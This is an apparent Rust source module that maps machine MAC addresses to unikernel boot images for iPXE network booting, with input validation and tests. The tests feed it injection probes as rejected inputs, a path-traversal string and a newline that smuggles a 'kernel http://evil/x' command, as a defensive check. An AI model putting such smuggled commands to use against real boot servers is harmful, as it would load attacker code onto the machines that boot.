//! Netboot (issue 19, item 4): which unikernel image a machine booting
//! with iPXE gets. Its rules, no HTTP: MACs and kernel command lines
//! checked, mappings by MAC (`store::netboot`) to an image id or a tag,
//! and the choice made at boot time (`boot`), which the southbound file
//! server asks through its `files::Boots` trait and writes as an iPXE
//! script.
//!
//! Its own module rather than a part of `bootfiles`: it chooses among
//! the catalog's unikernel images, not among the ISO and microkernel
//! stores, and needs nothing of their jobs, datasets or downloads.

use std::fmt;
use std::sync::Arc;

use crate::catalog::{Catalog, CatalogError};
use crate::files::{BootAsk, BootImage, BootMiss, Boots};
use crate::names::{ImageId, NameError, Tag};
use crate::store::netboot::NetbootRow;
pub use crate::store::netboot::NetbootTarget;
use crate::store::{self, StoreError};

#[derive(Debug, thiserror::Error)]
pub enum NetbootError {
    #[error("{0:?} is not a MAC address (six hex pairs separated by ':' or '-')")]
    BadMac(String),
    #[error("append: {0}")]
    BadAppend(&'static str),
    #[error("{0}")]
    Invalid(&'static str),
    #[error(transparent)]
    Name(#[from] NameError),
    #[error("no netboot mapping for {0}")]
    NoMapping(String),
    #[error("no image {0:?}")]
    NoImage(String),
    #[error("image {0:?} is ambiguous: give more of the id")]
    Ambiguous(String),
    #[error("no image is tagged {0:?}")]
    NoTagged(String),
    #[error("{mac} is mapped to image {id}, which was deleted; map it again")]
    ImageGone { mac: String, id: String },
    #[error(transparent)]
    Catalog(CatalogError),
    #[error(transparent)]
    Store(#[from] StoreError),
}

/// Longest kernel command line kept: it lands on one line of a script,
/// and iPXE and the kernels it loads keep only a few kilobytes of it.
pub const MAX_APPEND: usize = 1024;

/// A MAC address, normalised: six lower-case hex pairs joined by `:`.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Mac(String);

impl Mac {
    /// Accepts `aa:bb:cc:dd:ee:ff` and `AA-BB-CC-DD-EE-FF` (one separator
    /// throughout), as iPXE's `${net0/mac}` and Windows print them.
    pub fn parse(s: &str) -> Result<Mac, NetbootError> {
        let bad = || NetbootError::BadMac(s.chars().take(64).collect());
        let sep = if s.contains('-') { '-' } else { ':' };
        let pairs: Vec<&str> = s.split(sep).collect();
        if pairs.len() != 6
            || !pairs
                .iter()
                .all(|p| p.len() == 2 && p.bytes().all(|b| b.is_ascii_hexdigit()))
        {
            return Err(bad());
        }
        Ok(Mac(pairs.join(":").to_ascii_lowercase()))
    }

    pub fn as_str(&self) -> &str {
        &self.0
    }
}

impl fmt::Display for Mac {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(&self.0)
    }
}

/// A kernel command line: printable ASCII (so no newline, which would
/// start a new command of the script), at most `MAX_APPEND` bytes.
/// iPXE expands `${...}` in it (e.g. `ip=${net0/ip}`), on purpose.
pub fn check_append(s: &str) -> Result<(), NetbootError> {
    if s.len() > MAX_APPEND {
        return Err(NetbootError::BadAppend("longer than 1024 characters"));
    }
    if !s.bytes().all(|b| (0x20..0x7f).contains(&b)) {
        return Err(NetbootError::BadAppend(
            "only printable ASCII (no newline or control characters)",
        ));
    }
    Ok(())
}

/// What a mapping is asked to boot, as a client gives it.
#[derive(Debug, Clone, Default)]
pub struct Wanted {
    pub image: Option<String>,
    pub tag: Option<String>,
    pub append: Option<String>,
}

/// The service: mappings in the catalog's store, images from the catalog.
pub struct Netboot {
    catalog: Arc<Catalog>,
}

impl Netboot {
    pub fn new(catalog: Arc<Catalog>) -> Netboot {
        Netboot { catalog }
    }

    fn with_store<T>(&self, f: impl FnOnce(&store::Store) -> T) -> T {
        self.catalog.with_store(f)
    }

    /// An image by whole id or unique prefix, resolved to its whole id.
    fn image_id(&self, reference: &str) -> Result<ImageId, NetbootError> {
        match self.catalog.image(reference) {
            Ok(row) => Ok(row.id),
            Err(CatalogError::NotFound { .. }) => Err(NetbootError::NoImage(short(reference))),
            Err(CatalogError::Ambiguous { .. }) => Err(NetbootError::Ambiguous(short(reference))),
            Err(e) => Err(NetbootError::Catalog(e)),
        }
    }

    /// The newest image with `tag`, now.
    fn newest(&self, tag: &Tag) -> Result<ImageId, NetbootError> {
        self.with_store(|s| s.newest_tagged_image(tag))?
            .ok_or_else(|| NetbootError::NoTagged(tag.to_string()))
    }

    /// Maps `mac` (replacing its mapping); an image is resolved to its
    /// whole id now and must exist, a tag is kept as a tag (it may have no
    /// image yet). Returns the mapping and whether it is new.
    pub fn set(&self, mac: &str, wanted: Wanted) -> Result<(NetbootRow, bool), NetbootError> {
        let mac = Mac::parse(mac)?;
        let append = wanted.append.unwrap_or_default();
        check_append(&append)?;
        let target = match (wanted.image, wanted.tag) {
            (Some(image), None) => NetbootTarget::Image(self.image_id(&image)?),
            (None, Some(tag)) => NetbootTarget::Tag(Tag::new("tag", &tag)?),
            _ => return Err(NetbootError::Invalid("give exactly one of imageId and tag")),
        };
        let now = store::now();
        let row = NetbootRow {
            mac: mac.to_string(),
            target,
            append,
            created_at: now,
            updated_at: now,
        };
        let new = self.with_store(|s| s.put_netboot(&row))?;
        // Read back: a replaced mapping kept its creation time.
        let stored = self.get(mac.as_str())?;
        Ok((stored, new))
    }

    pub fn list(&self) -> Result<Vec<NetbootRow>, NetbootError> {
        Ok(self.with_store(|s| s.netboots())?)
    }

    pub fn get(&self, mac: &str) -> Result<NetbootRow, NetbootError> {
        let mac = Mac::parse(mac)?;
        self.with_store(|s| s.netboot(mac.as_str()))?
            .ok_or_else(|| NetbootError::NoMapping(mac.to_string()))
    }

    pub fn delete(&self, mac: &str) -> Result<NetbootRow, NetbootError> {
        let row = self.get(mac)?;
        if !self.with_store(|s| s.delete_netboot(&row.mac))? {
            return Err(NetbootError::NoMapping(row.mac));
        }
        Ok(row)
    }

    /// What a booting machine gets: the image (by whole id, so that the
    /// script names one image for good) and its command line.
    pub fn boot(&self, ask: &BootAsk) -> Result<(ImageId, String), NetbootError> {
        match ask {
            BootAsk::Tag(tag) => Ok((self.newest(&Tag::new("tag", tag)?)?, String::new())),
            BootAsk::Image(reference) => Ok((self.image_id(reference)?, String::new())),
            BootAsk::Mac(mac) => {
                let row = self.get(mac)?;
                let id = match &row.target {
                    NetbootTarget::Tag(tag) => self.newest(tag)?,
                    NetbootTarget::Image(id) => match self.image_id(id.as_str()) {
                        Ok(found) => found,
                        Err(NetbootError::NoImage(_)) => {
                            return Err(NetbootError::ImageGone {
                                mac: row.mac,
                                id: id.to_string(),
                            })
                        }
                        Err(e) => return Err(e),
                    },
                };
                Ok((id, row.append))
            }
        }
    }
}

/// A reference as echoed back: bounded, since it comes from a request.
fn short(s: &str) -> String {
    s.chars().take(64).collect()
}

/// The file server's view: a miss is a reason a booting console shows.
impl Boots for Netboot {
    fn boot(&self, ask: &BootAsk) -> Result<BootImage, BootMiss> {
        match Netboot::boot(self, ask) {
            Ok((id, append)) => Ok(BootImage {
                id: id.to_string(),
                append,
            }),
            Err(e @ (NetbootError::Store(_) | NetbootError::Catalog(_))) => {
                tracing::warn!("netboot: {e}");
                Err(BootMiss::Internal)
            }
            Err(
                e @ (NetbootError::BadMac(_) | NetbootError::Name(_) | NetbootError::Ambiguous(_)),
            ) => Err(BootMiss::Bad(e.to_string())),
            Err(e) => Err(BootMiss::NotFound(e.to_string())),
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn macs_are_normalised_or_refused() {
        for ok in [
            "52:54:00:12:34:56",
            "52-54-00-12-34-56",
            "52:54:00:12:34:56",
        ] {
            assert_eq!(Mac::parse(ok).unwrap().as_str(), "52:54:00:12:34:56");
        }
        assert_eq!(
            Mac::parse("AA-BB-CC-DD-EE-FF").unwrap().as_str(),
            "aa:bb:cc:dd:ee:ff"
        );
        for bad in [
            "",
            "52:54:00:12:34",
            "52:54:00:12:34:56:78",
            "52:54-00:12:34:56",
            "5:54:00:12:34:567",
            "52:54:00:12:34:zz",
            "../../etc/passwd",
            "52:54:00:12:34:5\n",
        ] {
            assert!(Mac::parse(bad).is_err(), "{bad:?}");
        }
    }

    #[test]
    fn append_is_one_printable_line() {
        check_append("").unwrap();
        check_append("console=ttyS0 ip=${net0/ip} --verbose").unwrap();
        check_append(&"x".repeat(MAX_APPEND)).unwrap();
        for bad in [
            "a\nkernel http://evil/x",
            "a\rb",
            "tab\there",
            "caf\u{e9}",
            &"x".repeat(MAX_APPEND + 1),
        ] {
            assert!(check_append(bad).is_err(), "{bad:?}");
        }
    }
}
